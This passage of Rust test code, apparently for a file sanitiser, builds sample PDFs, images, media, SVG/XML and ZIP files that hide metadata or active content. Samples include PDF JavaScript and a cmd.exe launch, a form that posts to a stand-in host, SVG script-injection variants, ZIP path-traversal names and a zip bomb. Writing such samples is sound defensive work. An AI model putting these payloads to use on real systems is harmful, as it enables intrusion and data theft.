        ("a film", "/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"),
        ("a script under an escaped name", "/AA << /O << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >>"),
        (
            "a link that runs",
            "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]",
        ),
        (
            "a link to a file",
            "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file:///C:/cases/a.pdf) >> >>]",
        ),
        (
            "a filled field",
            "/Annots [<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /FT /Tx /T (a) /TU (Number) /V (NHS 9434765919) >>]",
        ),
        ("a field without words", "/Annots [<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /FT /Tx /T (a) >>]"),
        (
            "a hidden field",
            "/Annots [<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /F 2 /FT /Tx /T (a) /TU (b) /V (Sarah) >>]",
        ),
        ("an old picture of the page", "/Thumb 6 0 R"),
    ] {
        f.add(what, Pdf { page, ..Pdf::default() }.make());
    }
    for (what, catalogue) in [
        ("a script at the start", "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        ("another program at the start", "/OpenAction << /S /Launch /F (cmd.exe) >>"),
        ("scripts by name", "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>"),
        ("files inside", "/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 6 0 R >> >>] >> >>"),
        ("a layer switched off", "/OCProperties << /OCGs [6 0 R] /D << /OFF [6 0 R] >> >>"),
        ("all layers switched off", "/OCProperties << /OCGs [6 0 R] /D << /BaseState /OFF >> >>"),
        ("a form that runs", "/AcroForm << /XFA [(a) 6 0 R] >>"),
        ("a button that sends", "/AA << /WC << /S /SubmitForm /F (http://x.example) >> >>"),
        ("a health number in a bookmark", "/Outlines << /First << /Title (NHS 9434765919) >> >>"),
    ] {
        f.add(what, Pdf { catalogue, ..Pdf::default() }.make());
    }
    f.add(
        "words in a form that no page shows",
        Pdf {
            more: &[stream(
                "/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >>",
                nhs.as_bytes(),
            )],
            ..Pdf::default()
        }
        .make(),
    );
    f.add(
        "words that no page shows any more",
        Pdf { more: &[stream("", b"BT /F1 12 Tf 72 700 Td (Sarah) Tj ET")], ..Pdf::default() }.make(),
    );
    f.add(
        "a layer not for the screen",
        Pdf {
            catalogue: "/OCProperties << /OCGs [6 0 R] /D << /ON [6 0 R] >> >>",
            more: &[b"<< /Type /OCG /Name (a) /Usage << /View << /ViewState /OFF >> >> >>".to_vec()],
            ..Pdf::default()
        }
        .make(),
    );
    f.add("words under a black box", Pdf { draw: &format!("{LINE}0 g 70 690 200 30 re f"), ..Pdf::default() }.make());
    f.add("words under a white box", Pdf { draw: &format!("{LINE}1 g 70 690 200 30 re f"), ..Pdf::default() }.make());
    f.add("words in white", Pdf { draw: "1 1 1 rg BT /F1 12 Tf 72 700 Td (Sarah) Tj ET", ..Pdf::default() }.make());
    f.add(
        "words of a tenth of a point",
        Pdf { draw: "BT /F1 0.1 Tf 72 700 Td (Sarah) Tj ET", ..Pdf::default() }.make(),
    );
    f.add("words not drawn", Pdf { draw: "BT 3 Tr /F1 12 Tf 72 700 Td (Sarah) Tj ET", ..Pdf::default() }.make());
    f.add("words beside the page", Pdf { draw: "BT /F1 12 Tf 700 700 Td (Sarah) Tj ET", ..Pdf::default() }.make());
    f.add(
        "words that stand for others",
        Pdf { draw: &format!("/Span << /ActualText (NHS {NHS}) >> BDC {LINE} EMC"), ..Pdf::default() }.make(),
    );
    let picture = stream(
        "/Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /DCTDecode",
        &jpeg(&[]),
    );
    f.add(
        "a scan",
        Pdf {
            draw: "q 595 0 0 842 0 0 cm /I Do Q",
            resources: "/XObject << /I 6 0 R >>",
            more: &[picture],
            ..Pdf::default()
        }
        .make(),
    );
    let placed = stream(
        "/Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /DCTDecode",
        &jpeg(&[(0xe1, &exif(&[0x8825], 0))]),
    );
    f.add(
        "a photograph with its place",
        Pdf {
            draw: &format!("{LINE}q 90 0 0 90 0 0 cm /I Do Q"),
            resources: "/XObject << /I 6 0 R >>",
            more: &[placed],
            ..Pdf::default()
        }
        .make(),
    );
    let clean = Pdf::default().make();
    let update = "4 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>\nendobj\nxref\n4 1\n";
    let place = clean.len();
    let table = place + update.find("xref").expect("a table");
    let old = clean.windows(9).rposition(|w| w == b"startxref").expect("a start");
    let old: String = String::from_utf8_lossy(&clean[old + 10..]).lines().next().expect("a number").to_owned();
    let newer = [
        clean.clone(),
        format!(
            "{update}{place:010} 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev {old} >>\nstartxref\n{table}\n%%EOF\n"
        )
        .into_bytes(),
    ]
    .concat();
    f.add("an earlier version", newer);
    f.add("data behind its end", [clean.clone(), b"PK\x03\x04 secret".to_vec()].concat());
    f.add("a lock", Pdf { trailer: "/Encrypt << /Filter /Standard /V 1 /R 2 /O (aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) /U (aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) /P -4 >> /ID [(a) (a)]", ..Pdf::default() }.make());
    f.add("no table and no page", b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF");
    let packed_info = packed(b"7 0 << /Author (Jo Bloggs) >>");
    f.add(
        "an author in a packed object",
        [clean, stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", &packed_info)].concat(),
    );
    f
}

impl Pdf<'_> {
    fn with_font(&self, map: &str) -> Vec<u8> {
        let mut objects = self.objects();
        objects[2] = String::from_utf8(objects[2].clone())
            .expect("text")
            .replace("/F1 4 0 R", "/F1 4 0 R /F2 6 0 R")
            .into_bytes();
        objects.push(b"<< /Type /Font /Subtype /TrueType /BaseFont /ABCDEF+Arial /ToUnicode 7 0 R >>".to_vec());
        objects.push(stream("", map.as_bytes()));
        pdf_of(&objects, "")
    }

    fn with_untold_font(&self) -> Vec<u8> {
        let mut objects = self.objects();
        objects[2] = String::from_utf8(objects[2].clone())
            .expect("text")
            .replace("/F1 4 0 R", "/F1 4 0 R /F2 6 0 R")
            .into_bytes();
        objects.push(b"<< /Type /Font /Subtype /Type0 /BaseFont /ABCDEF+Arial /Encoding /Identity-H /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 >>] >>".to_vec());
        pdf_of(&objects, "")
    }
}

fn pictures() -> Family {
    let mut f = Family::new("Pictures", "jpg");
    f.add("its place", jpeg(&[(0xe1, &exif(&[0x8825], 0))]));
    f.add("its camera", jpeg(&[(0xe1, &exif(&[0x0110], 0))]));
    f.add("an artist", jpeg(&[(0xe1, &exif(&[0x013b], 0))]));
    f.add("a small picture", jpeg(&[(0xe1, &exif(&[0x0112], 99))]));
    f.add("words behind the notes", jpeg(&[(0xe1, &[exif(&[0x0112], 0), vec![b'x'; 200]].concat())]));
    f.add("notes that cannot be read", jpeg(&[(0xe1, b"Exif\0\0??")]));
    f.add("XMP", jpeg(&[(0xe1, b"http://ns.adobe.com/xap/1.0/\0<x/>")]));
    f.add("XMP with its place", jpeg(&[(0xe1, b"http://ns.adobe.com/xap/1.0/\0<x exif:GPSLatitude=\"51\"/>")]));
    f.add("IPTC", jpeg(&[(0xed, b"Photoshop 3.0\0")]));
    f.add("a remark", jpeg(&[(0xfe, b"by Jo")]));
    f.add("a part nobody knows", jpeg(&[(0xe9, b"secret")]));
    f.add("a small picture in its head", jpeg(&[(0xe0, b"JFXX\0\x10abc")]));
    f.add("an archive behind its end", [jpeg(&[]), zip(&[("a.txt", "a")])].concat());
    f.add("fill bytes before its place", {
        let mut b = jpeg(&[(0xe1, &exif(&[0x8825], 0))]);
        let at = b.windows(2).position(|w| w == [0xff, 0xe1]).expect("notes");
        b.splice(at..at, [0xff, 0xff, 0xff]);
        b
    });
    f.add("a picture cut off", &jpeg(&[])[..60]);
    for (what, name, content) in [
        ("an author", b"tEXt", b"Author\0Jo".as_slice()),
        ("a program that is a name", b"tEXt", b"Software\0Jo Bloggs"),
        ("packed words", b"zTXt", b"Comment\0\0xx"),
        ("words in any language", b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<x/>"),
        ("its place", b"eXIf", &tiff(&[0x8825], 0)),
        ("a part nobody knows", b"seCr", b"secret"),
    ] {
        f.named(what, "png", png(&[(name, content)]));
    }
    f.named("data behind its end", "png", [png(&[]), b"secret".to_vec()].concat());
    f.named("its place", "webp", riff(b"WEBP", &[WEBP_PIXEL, (b"EXIF", &tiff(&[0x8825], 0))]));
    f.named("XMP", "webp", riff(b"WEBP", &[WEBP_PIXEL, (b"XMP ", b"<x/>")]));
    f.named("data behind its end", "webp", [riff(b"WEBP", &[WEBP_PIXEL]), b"secret".to_vec()].concat());
    f.named("a remark", "gif", gif(&[b"\x21\xfe\x05by Jo\0"]));
    f.named("XMP", "gif", gif(&[b"\x21\xff\x0bXMP DataXMP\x04<x/>\0"]));
    f.named("data behind its end", "gif", [gif(&[]), b"secret".to_vec()].concat());
    f.named("data behind its end", "bmp", [bmp(), b"secret words".to_vec()].concat());
    f.named("an author in its picture", "ico", ico(&png(&[(b"tEXt", b"Author\0Jo")])));
    f.named("data behind its end", "ico", [ico(&png(&[])), b"secret".to_vec()].concat());
    f.named("an artist", "tiff", tiff(&[0x0100, 0x013b], 0));
    f.named("its place", "tif", tiff(&[0x0100, 0x8825], 0));
    let heic = |kind: &[u8; 4]| {
        let entry = boxed(b"infe", &[b"\x02\0\0\0\0\x01\0\0".as_slice(), kind, b"\0"].concat());
        let list = boxed(b"iinf", &[b"\0\0\0\0\0\x01".as_slice(), &entry].concat());
        [boxed(b"ftyp", b"heic\0\0\0\0mif1"), boxed(b"meta", &[b"\0\0\0\0".as_slice(), &list].concat())].concat()
    };
    f.named("its camera", "heic", heic(b"Exif"));
    f.named("XMP", "avif", heic(b"mime"));
    f
}

fn sound_and_film() -> Family {
    let mut f = Family::new("Sound and film", "mp4");
    f.add("its place", mp4(&boxed(b"udta", &boxed(b"\xa9xyz", b"\0\x12\0\0+51.5074-000.1278/")), b""));
    f.add("its place in another spelling", mp4(&boxed(b"udta", &boxed(b"loci", b"\0\0\0\0place")), b""));
    f.add("its place by key", mp4(&boxed(b"meta", &boxed(b"keys", b"mdtacom.apple.quicktime.location.ISO6709")), b""));
    f.add(
        "an artist",
        mp4(
            &boxed(
                b"udta",
                &boxed(
                    b"meta",
                    &[b"\0\0\0\0".as_slice(), &boxed(b"ilst", &boxed(b"\xa9ART", b"\0\0\0\x12data\0\0\0\x01Jo"))]
                        .concat(),
                ),
            ),
            b"",
        ),
    );
    f.add("words where nothing should stand", mp4(b"", &boxed(b"free", b"secret words")));
    f.add("data behind its end", mp4(b"", b"PK\x03\x04 secret words"));
    f.add("a box of its own", mp4(b"", &boxed(b"uuid", b"secret words of a program")));
    f.add(
        "a track of words",
        mp4(&boxed(b"trak", &boxed(b"mdia", &boxed(b"hdlr", b"\0\0\0\0\0\0\0\0text\0\0\0\0\0\0\0\0\0\0\0\0a\0"))), b""),
    );
    f.named("its place", "mov", mp4(&boxed(b"udta", &boxed(b"\xa9xyz", b"\0\x12\0\0+51.5074-000.1278/")), b""));
    f.named("an artist", "mp3", [id3(&[(b"TPE1", b"\0Jo Bloggs")]), mp3_frames()].concat());
    f.named("a remark", "mp3", [id3(&[(b"COMM", b"\0engsecret")]), mp3_frames()].concat());
    f.named("a picture", "mp3", [id3(&[(b"APIC", b"\0image/png\0")]), mp3_frames()].concat());
    f.named("a title", "mp3", [id3(&[(b"TIT2", format!("\0NHS {NHS}").as_bytes())]), mp3_frames()].concat());
    f.named(
        "an artist at its end",
        "mp3",
        [mp3_frames(), {
            let mut tag = b"TAGtitle".to_vec();
            tag.resize(128, 0);
            tag
        }]
        .concat(),
    );
    f.named("data behind its end", "mp3", [mp3_frames(), b"PK\x03\x04 secret".to_vec()].concat());
    let format: (&[u8; 4], &[u8]) = (b"fmt ", &[1, 0, 1, 0, 0x40, 0x1f, 0, 0, 0x40, 0x1f, 0, 0, 1, 0, 8, 0]);
    f.named("an artist", "wav", riff(b"WAVE", &[format, (b"data", &[128; 8]), (b"LIST", b"INFOIART\x03\0\0\0Jo\0")]));
    f.named(
        "a broadcaster's notes",
        "wav",
        riff(b"WAVE", &[format, (b"bext", b"recorded at home"), (b"data", &[128; 8])]),
    );
    f.named(
        "data behind its end",
        "wav",
        [riff(b"WAVE", &[format, (b"data", &[128; 8])]), b"secret".to_vec()].concat(),
    );
    f.named("an artist", "ogg", ogg(&["ARTIST=Jo Bloggs"]));
    f.named("a remark", "opus", ogg(&["COMMENT=at home"]));
    f.named("data behind its end", "ogg", [ogg(&[]), b"secret".to_vec()].concat());
    f.named("a picture", "flac", flac(&[(6, b"picture")]));
    f.named("a program's notes", "flac", flac(&[(2, b"secret")]));
    f.named(
        "a tag",
        "webm",
        webm(
            &element(
                &[0x12, 0x54, 0xc3, 0x67],
                &element(
                    &[0x73, 0x73],
                    &element(
                        &[0x67, 0xc8],
                        &[element(&[0x45, 0xa3], b"ARTIST"), element(&[0x44, 0x87], b"Jo")].concat(),
                    ),
                ),
            ),
            b"",
        ),
    );
    f.named("a file inside", "webm", webm(&element(&[0x19, 0x41, 0xa4, 0x69], b"a file"), b""));
    f.named("data behind its end", "webm", webm(b"", b"secret words"));
    f
}

fn markup() -> Family {
    let mut f = Family::new("SVG and XML", "svg");
    for (what, attributes, inside) in [
        ("a script", "", "<script>alert(1)</script>"),
        ("a script under a prefix", " xmlns:q=\"http://www.w3.org/2000/svg\"", "<q:script>alert(1)</q:script>"),
        ("a script as data", "", "<script><![CDATA[alert(1)]]></script>"),
        ("a script elsewhere", "", "<script xlink:href=\"http://x.example/a.js\"/>"),
        ("a handler", " onload=\"alert(1)\"", ""),
        ("a handler in capitals", " onLoad=\"alert(1)\"", ""),
        ("a link that runs", "", "<a xlink:href=\"javascript:alert(1)\"><text>a</text></a>"),
        ("the same with references", "", "<a href=\"java&#x73;cript&#58;alert(1)\"><text>a</text></a>"),
        ("the same with a tab", "", "<a href=\"java&#9;script:alert(1)\"><text>a</text></a>"),
        (
            "a page in the address",
            "",
            "<a href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\"><text>a</text></a>",
        ),
        (
            "a link made to run",
            "",
            "<a><animate attributeName=\"href\" values=\"javascript:alert(1)\"/><text>a</text></a>",
        ),
        ("a link set to run", "", "<a><set attributeName=\"href\" to=\"javascript:alert(1)\"/><text>a</text></a>"),
        (
            "a page inside",
            "",
            "<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></body></foreignObject>",
        ),
        (
            "a frame",
            "",
            "<foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"javascript:alert(1)\"/></foreignObject>",
        ),
        ("a picture elsewhere", "", "<image href=\"http://x.example/a.png\"/>"),
        ("a shape elsewhere", "", "<use href=\"http://x.example/a.svg#b\"/>"),
        ("a picture that holds a script", "", "<image href=\"data:image/svg+xml,&lt;svg onload='alert(1)'/&gt;\"/>"),
        ("a style elsewhere", "", "<style>@import url(http://x.example/a.css);</style>"),
        ("a font elsewhere", "", "<style>@font-face{src:url(//x.example/a)}</style>"),
        ("a filling elsewhere", "", "<rect style=\"fill:url(http://x.example/a#b)\"/>"),
        ("an author", "", "<metadata><dc:creator xmlns:dc=\"urn:dc\">Jo Bloggs</dc:creator></metadata>"),
        (
            "an author deep down",
            "",
            "<metadata><rdf:RDF xmlns:rdf=\"urn:r\" xmlns:dc=\"urn:dc\"><dc:creator><Agent><dc:title>Jo Bloggs</dc:title></Agent></dc:creator></rdf:RDF></metadata>",
        ),
        ("the file it was", " xmlns:s=\"urn:s\" s:docname=\"child-a.svg\"", ""),
        ("the folder it lay in", " xmlns:s=\"urn:s\" s:export-filename=\"/home/jo.bloggs/cases/a.png\"", ""),
        ("a remark", "", "<!-- Sarah Smith -->"),
        ("a hidden layer", "", "<g style=\"display:none\"><text>Sarah</text></g>"),
        ("hidden words", "", "<text visibility=\"hidden\">Sarah</text>"),
        ("words to be seen through", "", "<text opacity=\"0\">Sarah</text>"),
        ("a health number", "", "<text>NHS 9434765919</text>"),
        ("a health number as its title", "", "<title>NHS 9434765919</title>"),
    ] {
        f.add(what, svg(attributes, inside));
    }
    f.add("a health number in UTF-16", wide(&svg("", "<text>NHS 9434765919</text>"), true, false));
    f.add("a script in UTF-16", wide(&svg("", "<script>alert(1)</script>"), true, true));
    f.add(
        "an encoding that programs read differently",
        "<?xml version=\"1.0\" encoding=\"utf-7\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>",
    );
    f.add(
        "a style sheet that runs",
        "<?xml-stylesheet href=\"a.xsl\" type=\"text/xsl\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>",
    );
    f.add(
        "an entity of its own",
        "<!DOCTYPE svg [<!ENTITY x '<script>alert(1)</script>'>]><svg xmlns=\"http://www.w3.org/2000/svg\">&x;</svg>",
    );
    f.add("XML that is not whole", "<svg xmlns=\"http://www.w3.org/2000/svg\"><g>");
    f.add(
        "a photograph with its place",
        svg("", &format!("<image href=\"data:image/jpeg;base64,{}\"/>", base64(&jpeg(&[(0xe1, &exif(&[0x8825], 0))])))),
    );
    for (what, xml) in [
        ("a page", "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></html>"),
        ("an element of a page", "<a><p:script xmlns:p=\"http://www.w3.org/1999/xhtml\">alert(1)</p:script></a>"),
        ("a picture that runs", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
        ("a style sheet that runs", "<?xml-stylesheet type=\"text/xsl\" href=\"#s\"?><a/>"),
        ("a program that makes pages", "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"/>"),
        ("a health number", "<a><b>NHS 9434765919</b></a>"),
    ] {
        f.named(what, "xml", xml);
    }
    f
}

fn base64(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn archives() -> Family {
    let mut f = Family::new("Archives", "zip");
    f.add("a mail", zip(&[("mail.eml", "From: jo")]));
    f.add("a program", zip(&[("run.exe", "MZ")]));
    f.add("a script", zip(&[("run.js", "alert(1)")]));
    f.add("a name", zip(&[("Child A NHS 9434765919.txt", "a")]));
    f.add("a folder's name", zip(&[("NHS 9434765919/a.txt", "a")]));
    f.add("a health number", zip(&[("a.csv", "name,nhs\nA,9434765919\n")]));
    f.add(
        "comments",
        zip_bytes(&[("a.docx", &docx("", &[("word/comments.xml", &word_part("comments", "<w:comment/>"))]))]),
    );
    f.add("an archive in an archive", zip_bytes(&[("b.zip", &zip(&[("a.txt", "NHS 9434765919")]))]));
    f.add("a page that runs", zip(&[("a.html", "<p onclick=\"alert(1)\">a</p>")]));
    f.add("a page with a script", zip(&[("a.html", "<script>alert(1)</script>")]));
    f.add("a page with a link that runs", zip(&[("a.htm", "<a href=\"javascript:alert(1)\">a</a>")]));
    f.add("a picture that runs", zip(&[("a.svg", &svg(" onload=\"alert(1)\"", ""))]));
    f.add("an old document", zip_bytes(&[("a.doc", &[0xd0, 0xcf, 0x11, 0xe0])]));
    f.add("another archive", zip(&[("a.7z", "7z")]));
    f.add("a name that leads out", zip(&[("../a.txt", "a")]));
    f.add("a name from the root", zip(&[("/etc/a.txt", "a")]));
    f.add("two of one name", {
        let mut b = zip(&[("aa.txt", "a"), ("ab.txt", "b")]);
        replace(&mut b, b"ab.txt", b"aa.txt");
        b
    });
    f.add("a prefix", [b"secret words before it ".to_vec(), zip(&[("a.txt", "a")])].concat());
    f.add("data behind its end", [zip(&[("a.txt", "a")]), b"secret".to_vec()].concat());
    f.add("a remark", {
        let mut b = zip(&[("a.txt", "a")]);
        let end = b.len();
        b[end - 2] = 5;
        b.extend(b"hello");
        b
    });
    f.add("a bomb", zip_bytes(&[("a.txt", &vec![b'a'; 40 << 20])]));
    f.add("a lock", {
        let mut b = zip(&[("a.txt", "a")]);
        let at = b.windows(4).position(|w| w == b"PK\x01\x02").expect("a list");
        b[at + 8] |= 1;
        b[6] |= 1;
        b
    });
    f
}

fn replace(bytes: &mut [u8], from: &[u8], to: &[u8]) {
    while let Some(at) = bytes.windows(from.len()).position(|w| w == from) {
        bytes[at..at + from.len()].copy_from_slice(to);
    }
}

fn disguises() -> Family {
    let mut f = Family::new("Disguises", "jpg");
    f.add("an archive named as a picture", zip(&[("a.txt", "a")]));
    f.add("a page named as a picture", "<html><script>alert(1)</script></html>");
    f.named("a picture named as another", "png", jpeg(&[]));
    f.named("a program named as text", "txt", b"MZ\x90\0\x03\0");
    f.named("a picture named as a table", "csv", png(&[]));
    f.named("a document named as a PDF", "pdf", docx("", &[]));
    f.named("a PDF named as a document", "docx", Pdf::default().make());
    f.named("a page named as data", "json", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>");
    f.named("an archive named as a film", "mp4", zip(&[("a.txt", "a")]));
    f.named("a font", "woff2", "wOF2secret");
    f.named("a type nobody knows", "exe", "MZ");
    f.named("a script beside pages", "js", "alert(1)");
    f.named("a page beside pages", "htm", "<p>a</p>");
    f
}
